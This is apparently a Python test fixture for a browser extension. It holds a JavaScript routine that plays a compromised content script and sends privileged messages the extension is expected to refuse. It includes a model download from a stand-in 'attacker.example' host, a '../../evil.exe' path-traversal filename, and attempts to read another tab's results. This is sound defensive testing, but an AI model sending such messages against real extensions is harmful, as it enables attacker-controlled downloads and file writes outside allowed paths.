"""Messages a content script (or a renderer that took it over) can send, for the trust tests in
Chromium (test_privacy.py) and Firefox (test_firefox_trust.py): each must go unanswered or refused."""

# What a content script (or a renderer that took it over) can send, run in its very world.
UNTRUSTED = """async ({ privateUrl, tabId, ownResult, otherResult }) => {
  const uuid = () => crypto.randomUUID();
  const send = (m) => chrome.runtime.sendMessage(m).then((r) => r === undefined ? 'no answer' : r, (e) => 'no answer');
  const out = {};
  out.cut = await send({ target: 'offscreen', type: 'cut', data: { jobId: uuid(),
    source: { kind: 'page', url: privateUrl, tabId, frameId: 0 }, engine: 'fast', options: {}, modelSource: 'https://example.org/' } });
  out.resultUrlOwn = await send({ target: 'offscreen', type: 'result-url', data: { resultId: ownResult } });
  out.resultUrlOther = await send({ target: 'offscreen', type: 'result-url', data: { resultId: otherResult, tabId } });
  out.ping = await send({ target: 'offscreen', type: 'ping', data: {} });
  out.deleteModels = await send({ target: 'offscreen', type: 'delete-models', data: {} });
  // A download on purpose from an attacker's source, and a look at what is on the device.
  out.downloadModel = await send({ target: 'offscreen', type: 'download-model', data: { engine: 'medium', modelSource: 'https://attacker.example/' } });
  out.modelStatus = await send({ target: 'offscreen', type: 'model-status', data: {} });
  out.saveBytes = await send({ target: 'background', type: 'save', data: { dataUrl: 'data:image/png;base64,iVBORw0KGgo=', filename: '../../evil.exe' } });
  out.saveUnknown = await send({ target: 'background', type: 'save', data: { resultId: uuid() } });
  out.saveOtherTab = await send({ target: 'background', type: 'save', data: { resultId: otherResult } });
  out.port = await new Promise((resolve) => {
    const got = [];
    const p = chrome.runtime.connect({ name: 'backgrone-job:' + uuid() });
    p.onMessage.addListener((m) => got.push(m));
    p.postMessage({ target: 'port', type: 'unreadable', data: { reason: 'not-readable' } });
    setTimeout(() => resolve(got), 1500);
  });
  return out;
}"""
